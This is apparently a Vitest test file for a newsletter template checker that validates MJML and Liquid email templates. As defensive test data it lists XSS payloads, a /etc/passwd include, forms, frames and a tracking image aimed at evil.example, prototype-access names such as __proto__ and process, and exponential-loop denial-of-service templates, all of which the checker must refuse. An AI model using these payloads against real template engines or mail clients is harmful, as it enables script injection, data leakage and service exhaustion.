import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { languages } from '../../src/domain/languages.ts'
import { TemplateError } from '../../src/domain/template.ts'
import { checkTemplate } from '../../src/mail/render/check-template.ts'
import { digestHtml } from '../../src/mail/render/digest-html.ts'
import type { DigestContent } from '../../src/mail/render/digest-model.ts'
import { inspectDigest } from '../../src/mail/render/inspect-digest.ts'
import { ownDigestHtml, templateToStartFrom } from '../../src/mail/render/own-template.ts'
import { bareContent, sampleContent } from '../../src/mail/render/sample-content.ts'
import { cutAtMarkers, fillPieces, makeMarkers } from '../../src/mail/render/slots.ts'
import { aDigest, ana, aStory, templates } from './a-digest.ts'

const start = templateToStartFrom(templates)
const lineOf = (source: string, part: string) => source.slice(0, source.lastIndexOf(part)).split('\n').length

/** Something more at the end of the template, and what is said of it. */
const withMore = async (more: string) => {
  const source = start.replace('</mj-body>', `${more}\n</mj-body>`)
  const faults = await checkTemplate(source)
  return faults.map(({ line, code, detail }) => ({
    line: line === lineOf(source, more) ? 'there' : line,
    code,
    detail,
  }))
}
const codes = async (source: string) => (await checkTemplate(source)).map(fault => fault.code)

test('the template that comes with Broadsheet is a good one to start from, and makes the same mail', async () => {
  expect(await checkTemplate(start)).toEqual([])
  const markers = makeMarkers()
  const content = aDigest()
  expect(await ownDigestHtml(start, content, markers)).toBe(await digestHtml(templates, content, markers))
})

test('a template that an editor kept long ago still works: names may come, none may go', async () => {
  const kept = readFileSync(new URL('kept-template.mjml', import.meta.url), 'utf8')
  expect(await checkTemplate(kept)).toEqual([])
})

test.each(languages)(
  'our own mails in %s keep the rules that editors’ templates are held to',
  async language => {
    const full = sampleContent({ ...aDigest(), newsletter: { ...aDigest().newsletter, language } })
    for (const content of [full, bareContent(full), aDigest()]) {
      const markers = makeMarkers()
      expect(inspectDigest(await digestHtml(templates, content, markers), content, markers)).toEqual([])
    }
  },
)

describe('faults are told with their lines', () => {
  test.each([
    ['{{ blok }}', 'unknown-name', 'blok'],
    ['{{ publication.secret }}', 'unknown-name', 'publication.secret'],
    ['{% if blok %}x{% endif %}', 'unknown-name', 'blok'],
    ['{{ title | upcas }}', 'unknown-filter', 'upcas'],
    ['{% fur x in blocks %}', 'unknown-tag', 'fur'],
    ['{% if title %}', 'liquid', 'tag {% if title %} not closed'],
    ['{{ title', 'liquid', expect.stringContaining('not closed')],
    ['<mj-foo></mj-foo>', 'mjml', expect.stringContaining('mj-foo')],
    ['<mj-section hue="3"></mj-section>', 'mjml', expect.stringContaining('hue')],
    ['<mj-divider padding="wide" />', 'mjml', expect.anything()],
    ['<mj-section><mj-column></mj-column>', 'unclosed', '<mj-section>'],
    ['</mj-column>', 'unclosed', '<mj-column>'],
    ['<mj-include path="/etc/passwd" />', 'include', ''],
    ['{% render "head" %}', 'unknown-tag', 'render'],
    ['{% include "digest" %}', 'unknown-tag', 'include'],
    ['{% layout "digest" %}', 'unknown-tag', 'layout'],
  ])('%s', async (more, code, detail) => {
    expect(await withMore(more)).toContainEqual({ line: 'there', code, detail })
  })

  test('all that Liquid misses at once, within loops too, each line once', async () => {
    const source = start
      .replace('{{ block.title }}', '{{ block.titel }}')
      .replace('{{ words.why }}', '\n{{ words.wy }}')
    expect(await checkTemplate(source)).toEqual([
      { line: lineOf(source, 'block.titel'), code: 'unknown-name', detail: 'block.titel' },
      { line: lineOf(source, 'words.wy'), code: 'unknown-name', detail: 'words.wy' },
    ])
  })

  test('MJML’s are those of the template, not of what loops made of it', async () => {
    const source = start.replace('<mj-divider css-class="rule" />', '<mj-divider colour="red" />')
    const faults = await checkTemplate(source)
    expect(faults.map(fault => fault.line)).toContain(lineOf(source, 'colour="red"'))
    expect(new Set(faults.map(fault => fault.code))).toEqual(new Set(['mjml']))
  })

  test.each(['', ' ', 'Hello', '<p>Hello</p>', '\u0000', '{% comment %}x{% endcomment %}', '<mjml></mjml>'])(
    'what is no template at all: %j',
    async source => {
      expect((await checkTemplate(source)).length).toBeGreaterThan(0)
    },
  )
})

describe('what may not stand in a mail', () => {
  const raw = (html: string) => `<mj-raw>${html}</mj-raw>`
  test.each([
    [raw('<script>alert(1)</script>'), 'script', ''],
    [raw('<!--[if mso]><script>1</script><![endif]-->'), 'script', ''],
    [raw('<svg onload="x()"></svg>'), 'handler', 'onload'],
    [raw('<a href=" java\tscript:x()">x</a>'), 'address-that-runs', 'href'],
    [raw('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'), 'address-that-runs', 'href'],
    [raw('<p style="width:expression(x())">x</p>'), 'address-that-runs', 'style'],
    [raw('<form action="https://evil.example"></form>'), 'form', '<form>'],
    [raw('<input name="password" />'), 'form', '<input>'],
    [raw('<iframe src="https://evil.example"></iframe>'), 'frame', '<iframe>'],
    [raw('<object data="x.swf"></object>'), 'frame', '<object>'],
    [raw('<base href="https://evil.example/" />'), 'frame', '<base>'],
    [raw('<meta http-equiv="refresh" content="0;url=https://evil.example" />'), 'frame', '<meta>'],
    [raw('<link rel="stylesheet" href="https://evil.example/a.css" />'), 'stylesheet', '<link>'],
    [raw('<style>@import url(https://evil.example/a.css);</style>'), 'stylesheet', '@import'],
    [
      raw('<img src="https://evil.example/?{{ slots.unsubscribe }}" alt="" />'),
      'slot-elsewhere',
      'slots.unsubscribe',
    ],
    [raw('<p>{{ slots.preferences }}</p>'), 'slot-elsewhere', 'slots.preferences'],
    [raw('<p title="{{ slots.name }}">x</p>'), 'slot-elsewhere', 'slots.name'],
    [
      raw('<a href="https://evil.example/{{ slots.unsubscribe }}">x</a>'),
      'slot-elsewhere',
      'slots.unsubscribe',
    ],
  ])('%s', async (more, code, detail) => {
    const faults = await withMore(more)
    expect(faults.map(fault => [fault.code, fault.detail])).toContainEqual([code, detail])
    if (more.includes('script>') || code === 'form') expect(faults[0]!.line).toBe('there')
  })

  test('put together from pieces it is found all the same, without a line', async () => {
    const more = raw("<scr{{ '' }}ipt>alert(1)</scr{{ '' }}ipt><a href=\"java&#115;cript:x()\">x</a>")
    expect(await withMore(more)).toEqual([
      { line: null, code: 'script', detail: '' },
      { line: null, code: 'address-that-runs', detail: 'href' },
    ])
  })

  test('a font from elsewhere', async () => {
    const source = start
      .replace('<mj-head>', '<mj-head><mj-font name="Raleway" href="https://fonts.example/raleway.css" />')
      .replace('<mj-all font-family="{{ fonts.text }}" />', '<mj-all font-family="Raleway" />')
    expect(await codes(source)).toContain('stylesheet')
  })
})

describe('what must stand in a mail', () => {
  const hidden = (css: string) => (text: string) => `<span style="${css}">${text}</span>`
  test.each([
    ['no-unsubscribe', start.replaceAll('{{ slots.unsubscribe }}', 'https://ledger.example/')],
    ['no-unsubscribe', start.replace('{{ words.unsubscribe }}', '')],
    [
      'no-unsubscribe',
      start.replace('{{ words.unsubscribe }}', hidden('display: none')('{{ words.unsubscribe }}')),
    ],
    ['no-preferences', start.replaceAll('{{ slots.preferences }}', 'https://ledger.example/')],
    ['no-postal-address', start.replace('{{ line }}', '')],
    ['no-postal-address', start.replace('{{ line }}', hidden('font-size:0')('{{ line }}'))],
    [
      'no-label',
      start.replace(/(<mj-text mj-class="small" font-weight="bold"[^>]*>)\{\{ block\.label \}\}/, '$1'),
    ],
    [
      'no-label',
      start.replace(
        /(font-weight="bold" padding-bottom="6px">)\{\{ block\.label \}\}/,
        `$1${hidden('visibility:hidden')('{{ block.label }}')}`,
      ),
    ],
    ['no-label', start.replace("{% if article.label != '' %}{{ article.label }}: {% endif %}", '')],
    ['no-story', start.replaceAll('>{{ block.title }}<', '><')],
    ['no-story', start.replace("{% when 'partner' %}", "{% when 'nothing' %}")],
    ['no-link', start.replaceAll('href="{{ article.url }}"', '')],
  ])('%s (%#)', async (code, source) => {
    expect(source).not.toBe(start)
    expect(await codes(source)).toContain(code)
  })

  test('a label counts only right before its own headline', async () => {
    const row = /(<mj-text mj-class="small" font-weight="bold"[^>]*>)\{\{ block\.label \}\}/
    const labels =
      "{% for block in blocks %}{% if block.type == 'partner' %}{{ block.label }}{% endif %}{% endfor %}"
    const atTheTop = start
      .replace(row, '$1')
      .replace('{{ newsletter.name }} · {{ date }}', `{{ date }} ${labels}`)
    expect(await codes(atTheTop)).toEqual(['no-label'])
    const below = start
      .replace(row, '$1')
      .replace(
        /(sponsored[^\n]*\n)(\s+)\{% if block.standfirst/,
        '$1$2<p>{{ block.label }}</p>{% if block.standfirst',
      )
    expect(below).not.toBe(start)
    expect(await codes(below)).toEqual(['no-label'])
  })

  test('no more than mail programs show', async () => {
    const rows =
      '{% for i in (1..400) %}<mj-section><mj-column><mj-text>more and more</mj-text></mj-column></mj-section>{% endfor %}'
    expect(await withMore(rows)).toMatchObject([{ code: 'too-large' }])
  })
})

test.each([
  ['a billion', '{% for i in (1..1000000000) %}x{% endfor %}'],
  ['a thousand thousand thousand', `${'{% for i in (1..1000) %}'.repeat(3)}x${'{% endfor %}'.repeat(3)}`],
  ['doubling', '{% assign s = "xxxxxxxx" %}{% for i in (1..60) %}{% assign s = s | append: s %}{% endfor %}'],
  [
    'doubling in captures',
    '{% assign s = "xx" %}{% for i in (1..60) %}{% capture s %}{{ s }}{{ s }}{% endcapture %}{% endfor %}',
  ],
  ['much text', `{% for i in (1..49000) %}${'x'.repeat(40_000)}{% endfor %}`],
  ['depth', '{% if title %}'.repeat(4000) + '{% endif %}'.repeat(4000)],
  ['tags that do not end', '{%'.repeat(25_000)],
  ['elements that do not end', `<mjml><mj-body>${'<mj-text a="'.repeat(4000)}`],
])('%s is refused in under a second', async (_, source) => {
  await checkTemplate(start)
  const begun = performance.now()
  expect((await checkTemplate(source)).length).toBeGreaterThan(0)
  expect(performance.now() - begun).toBeLessThan(1000)
})

describe('a template sees its digest and nothing else', () => {
  const written = async (source: string, content: DigestContent = aDigest()) => {
    const markers = makeMarkers()
    const own = start.replace('{{ words.why }}', `{{ words.why }} [[${source}]]`)
    const html = await ownDigestHtml(own, content, markers)
    return /\[\[([\s\S]*)\]\]/.exec(html)![1]
  }

  test.each([
    ...[
      'constructor',
      '__proto__',
      'process',
      'globalThis',
      'config',
      'services',
      'db',
      'readers',
      'env',
      'this',
    ],
    ...[
      'title.constructor',
      'blocks.constructor',
      'title.__proto__',
      'blocks.map',
      'slots.nameOr',
      'look',
      'markers',
    ],
    ...['publication.postalAddress', 'newsletter.senderAddress', 'newsletter.id', 'title.length.constructor'],
  ])('%s', async name => {
    await expect(written(`{{ ${name} }}`)).rejects.toThrow(TemplateError)
    expect(await codes(start.replace('{{ words.why }}', `{{ words.why }}{{ ${name} }}`))).toEqual([
      'unknown-name',
    ])
  })

  test('and what it writes of it is escaped, whatever it asks for', async () => {
    const content = aDigest({ subject: '<img src=x onerror=alert(1)> & "co"' })
    const escaped = '&lt;img src=x onerror=alert(1)&gt; &amp; &quot;co&quot;'
    for (const source of [
      '{{ title }}',
      '{{ title | raw }}',
      '{{ title | escape }}',
      '{% echo title %}',
      '{% capture x %}{{ title | raw }}{% endcapture %}{{ title | append: "" | raw }}',
    ])
      expect(await written(source, content)).toBe(escaped)
    expect(await written('{{ footer }}{{ blocks[0].html }}', aDigest())).toContain('<p style=')
  })
})

test('a template that fits the sample and not a digest is refused then, with what is wrong', async () => {
  // Shows six stories at most.
  const short = start.replace('{% for block in blocks %}', '{% for block in blocks limit: 12 %}')
  expect(await checkTemplate(short)).toEqual([])
  const stories = Array.from({ length: 13 }, (_, index) => ({
    type: 'article' as const,
    article: aStory({ title: `Story number ${index}` }),
  }))
  await expect(ownDigestHtml(short, aDigest({ blocks: stories }), makeMarkers())).rejects.toThrow(
    'no-story Story number 12',
  )
})

test('stories that look alike, hostile words and no stories at all do not mislead the rules', async () => {
  const words = '<script>alert(1)</script> {{ slots.unsubscribe }} Advertisement · Northwind Ltd &amp; "x"'
  const twin = aStory({ title: 'A', url: 'https://ledger.example/?a=1&b=2' })
  for (const blocks of [
    [],
    [
      { type: 'article' as const, article: twin },
      { type: 'partner' as const, sponsor: 'A', article: twin },
      { type: 'seeAlso' as const, articles: [twin, { ...twin, sponsor: 'A' }] },
      { type: 'article' as const, article: aStory({ title: words, standfirst: words }) },
      { type: 'partner' as const, sponsor: words, article: aStory({ title: words }) },
    ],
  ]) {
    const markers = makeMarkers()
    const html = await ownDigestHtml(start, aDigest({ blocks }), markers)
    expect(fillPieces(cutAtMarkers(html, markers), ana, 'html')).toContain(ana.unsubscribeUrl)
  }
})
